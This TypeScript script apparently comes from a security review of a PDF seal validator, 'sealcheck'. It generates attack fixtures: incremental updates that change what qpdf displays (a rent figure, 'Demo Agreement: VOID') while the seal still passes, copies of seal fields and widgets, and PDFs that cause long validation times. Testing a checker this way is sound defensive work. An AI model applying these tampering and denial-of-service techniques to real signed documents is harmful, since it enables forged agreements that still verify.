// Attack round 2: incremental updates on the sealed archives that sealcheck calls TOTAL-PASSED while a reader
// (qpdf) shows something other than the sealed revision. Deterministic (no time, no randomness).
// Run: npx tsx scripts/attack-round2/build.ts   (writes test/fixtures/attack-round2/*.pdf and prints verdicts)
import { writeFileSync } from "node:fs";
import { deflateSync } from "node:zlib";
import { appendRevision, REAL, SAMPLE, verdict } from "./lib.js";
import { buildObjStmDos } from "./dos-objstm.js";
import { buildDssCertsDos } from "./dos-dss-certs.js";

const OUT = "test/fixtures/attack-round2";
const flate = (s: string) => deflateSync(Buffer.from(s, "latin1"), { level: 9 });

const fixtures: Record<string, { bytes: Uint8Array; real: boolean }> = {};

// Finding 1: an update whose only xref entry is object 0 *in use*, at an unlisted redefinition of page 1's
// content stream 5. sealcheck never resolves object 0 (nothing refers to it) nor reads bytes no entry names;
// qpdf reads object 0 when it writes the file, takes whatever `N G obj` it finds there and caches it under
// N: `qpdf in.pdf out.pdf` (and --linearize, --split-pages, …) writes page 1 with the new content.
fixtures["object0-poisons-qpdf.pdf"] = {
  real: false,
  bytes: appendRevision(SAMPLE, {
    objects: [
      {
        num: 5,
        body: "<< /Filter /FlateDecode >>",
        stream: flate("q 1 1 1 rg 55 480 500 300 re f Q q 1 0 0 rg BT /Helvetica-7098480789 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET Q"),
        listed: false,
      },
    ],
    extra: (o) => [{ num: 0, offset: o.get("5") as number }],
    trailer: "/Root 2 0 R /Info 3 0 R",
    size: 26,
  }),
};

// Finding 1 on the broker's real archive: page 1's content 5 redefined, reached by qpdf through object 0.
fixtures["real-object0-poisons-qpdf.pdf"] = {
  real: true,
  bytes: appendRevision(REAL, {
    objects: [
      {
        num: 5,
        body: "<< /Filter /FlateDecode >>",
        stream: flate("q 1 0 0 rg BT /F1 28 Tf 60 700 Td (Demo Agreement: VOID) Tj ET Q"),
        listed: false,
      },
    ],
    extra: (o) => [{ num: 0, offset: o.get("5") as number }],
    trailer: "/Root 1 0 R /Info 3 0 R",
    size: 36,
  }),
};

// Finding 1, weaker form: a new, unreferenced object 26 listed at the offset of an unlisted `5 0 obj`.
// sealcheck never resolves 26; qpdf --check / --json=2 / any rewrite do: "expected 26 0 obj", "file is
// damaged", "Attempting to reconstruct cross-reference table" (the scan's last `N G obj` wins from then on).
fixtures["unreferenced-entry-mismatch.pdf"] = {
  real: false,
  bytes: appendRevision(SAMPLE, {
    objects: [
      {
        num: 5,
        body: "<< /Filter /FlateDecode >>",
        stream: flate("q 1 0 0 rg BT /Helvetica-7098480789 28 Tf 60 700 Td (Husleje: 1 kr.) Tj ET Q"),
        listed: false,
      },
    ],
    extra: (o) => [{ num: 26, offset: o.get("5") as number }],
    trailer: "/Root 2 0 R /Info 3 0 R",
    size: 27,
  }),
};

// Finding 2 (time): one update whose DSS /Certs names object 0 of six object streams, each header claiming
// 1.9M pairs (fixed-width numbers, PNG Up predictor: ~200 KB each in the file, 36 MB decoded). No limit
// counts header pairs (only xref entries are charged to maxPdfObjects, and /N only per stream); every header
// is tokenized in full. 1.2 MB: ~17 s, ~730 MB; `npx tsx scripts/attack-round2/dos-objstm.ts 27 1900000`
// writes a 5.3 MB variant that takes ~75 s. TOTAL-PASSED either way (a DSS is LTV).
if (!process.env.SKIP_DOS) fixtures["dos-objstm-headers.pdf"] = { real: false, bytes: buildObjStmDos(SAMPLE, 6, 1_900_000) };

/** Object `num`'s body (between `obj` and `endobj`) as the base's last xref table places it. */
function rawBody(base: Uint8Array, num: number): string {
  const t = Buffer.from(base).toString("latin1");
  const xref = t.lastIndexOf("\nxref");
  // find the entry for `num` in the (single-section) base table
  const table = t.slice(xref + 6, t.indexOf("trailer", xref));
  const lines = table
    .split(/\r?\n/)
    .map((l) => l.trim())
    .filter(Boolean);
  let first = 0;
  let k = 0;
  let offset = -1;
  for (const l of lines) {
    const h = /^(\d+) (\d+)$/.exec(l);
    if (h) {
      first = Number(h[1]);
      k = 0;
      continue;
    }
    if (first + k === num) offset = Number(l.slice(0, 10));
    k++;
  }
  const start = t.indexOf("obj", offset) + 3;
  return t.slice(start, t.indexOf("endobj", start)).trim();
}

/** A literal string of `bytes` whose LF bytes are written as raw CRs (§7.3.4.2: an unescaped EOL reads as LF). */
function literalWithCr(bytes: Buffer): string {
  let out = "(";
  for (const b of bytes) {
    if (b === 0x0a) out += "\r";
    else if (b === 0x0d) out += "\\r";
    else if (b === 0x28 || b === 0x29 || b === 0x5c) out += `\\${String.fromCharCode(b)}`;
    else out += String.fromCharCode(b);
  }
  return `${out})`;
}

/** The seal's signature dictionary rewritten with the same value, its /Contents as such a literal string. */
function sealRewritten(base: Uint8Array, num: number): string {
  const body = rawBody(base, num);
  return body.replace(/\/Contents\s*<([0-9a-fA-F\s]*)>/, (_m, hex: string) => `/Contents ${literalWithCr(Buffer.from(hex.replace(/\s/g, ""), "hex"))}`);
}

// Finding 4 (time): a DSS whose 30 /Certs streams each inflate to ~400 KB of DER holding ~199,000 ASN.1
// values (~300 bytes each in the file). certificateFromDer decodes every value before pkijs refuses the
// schema: ~0.8 s each, 92 KB file -> ~25 s, then TOTAL-PASSED. maxValidationDataItems (1,000) allows ~13 min
// (`npx tsx scripts/attack-round2/dos-dss-certs.ts 1000`, 3 MB).
if (!process.env.SKIP_DOS) fixtures["dos-dss-heavy-certs.pdf"] = { real: false, bytes: buildDssCertsDos(30) };

// Finding 3: identity is not content. An update points /AcroForm /Fields (or page 1's /Annots) at a *copy* of
// the seal's merged field/widget under a new number; compareDicts accepts the changed key because the two
// values have the same content (sameContent), and nothing judges the new object. Readers tie widgets to fields
// by reference: pdfsig lists the seal twice ("Signature #2: Signature1"); qpdf warns "this widget annotation
// is not reachable from /AcroForm". Rule: a changed reference is a change unless a rule names it (content
// equality may excuse a value made direct, never another object number), and every new object is judged.
const W23 = "<< /F 132 /FT /Sig /P 6 0 R /Rect [ 0 0 0 0 ] /Subtype /Widget /T (Signature1) /Type /Annot /V 22 0 R >>";
const W33 = "<< /AP << /N 35 0 R >> /F 132 /FT /Sig /P 4 0 R /Rect [ 0 0 0 0 ] /Subtype /Widget /T (Signature1) /V 32 0 R >>";
const P6 =
  "<< /Annots [ 26 0 R ] /Contents [ 5 0 R ] /MediaBox [ 0 0 595 842 ] /Parent 1 0 R /Resources << /ExtGState << >> /Font << /Helvetica-7098480789 4 0 R >> /XObject << >> >> /Type /Page >>";
fixtures["fields-copy-of-seal-field.pdf"] = {
  real: false,
  bytes: appendRevision(SAMPLE, {
    objects: [
      { num: 26, body: W23 },
      { num: 25, body: "<< /Fields [ 26 0 R ] /SigFlags 3 >>" },
    ],
    trailer: "/Root 2 0 R /Info 3 0 R",
    size: 27,
  }),
};
fixtures["annots-copy-of-seal-widget.pdf"] = {
  real: false,
  bytes: appendRevision(SAMPLE, {
    objects: [
      { num: 26, body: W23 },
      { num: 6, body: P6 },
    ],
    trailer: "/Root 2 0 R /Info 3 0 R",
    size: 27,
  }),
};
fixtures["real-fields-copy-of-seal-field.pdf"] = {
  real: true,
  bytes: appendRevision(REAL, {
    objects: [
      { num: 36, body: W33 },
      { num: 31, body: "<< /Fields [ 36 0 R ] /SigFlags 3 >>" },
    ],
    trailer: "/Root 1 0 R /Info 3 0 R",
    size: 37,
  }),
};

// Finding 3, a value made direct: page 1's /Annots names a direct copy of the seal's widget 23.
fixtures["annots-direct-copy-of-seal-widget.pdf"] = {
  real: false,
  bytes: appendRevision(SAMPLE, { objects: [{ num: 6, body: P6.replace("26 0 R", W23) }], trailer: "/Root 2 0 R /Info 3 0 R", size: 26 }),
};

// Stopped (not written): the seal's signature dictionary rewritten with the same value, its /Contents a literal
// string whose LF bytes are raw CRs (sealcheck reads LF per §7.3.4.2, poppler keeps CR): sealcheck refuses it
// ("the gap between the ranges is not exactly the /Contents string"; "signature dictionary was rewritten").
// `STOPPED=1` prints the verdicts.
if (process.env.STOPPED) {
  fixtures["seal-contents-raw-cr.pdf"] = {
    real: false,
    bytes: appendRevision(SAMPLE, { objects: [{ num: 22, body: sealRewritten(SAMPLE, 22) }], trailer: "/Root 2 0 R /Info 3 0 R", size: 26 }),
  };
}

for (const [name, f] of Object.entries(fixtures)) {
  if (!process.env.STOPPED) writeFileSync(`${OUT}/${name}`, f.bytes);
  const v = await verdict(name, f.bytes, f.real);
  console.log(name, v.indication, `${v.ms} ms`, v.bad.filter((b) => !b.startsWith("document-timestamps:skipped")).join(" | "));
}
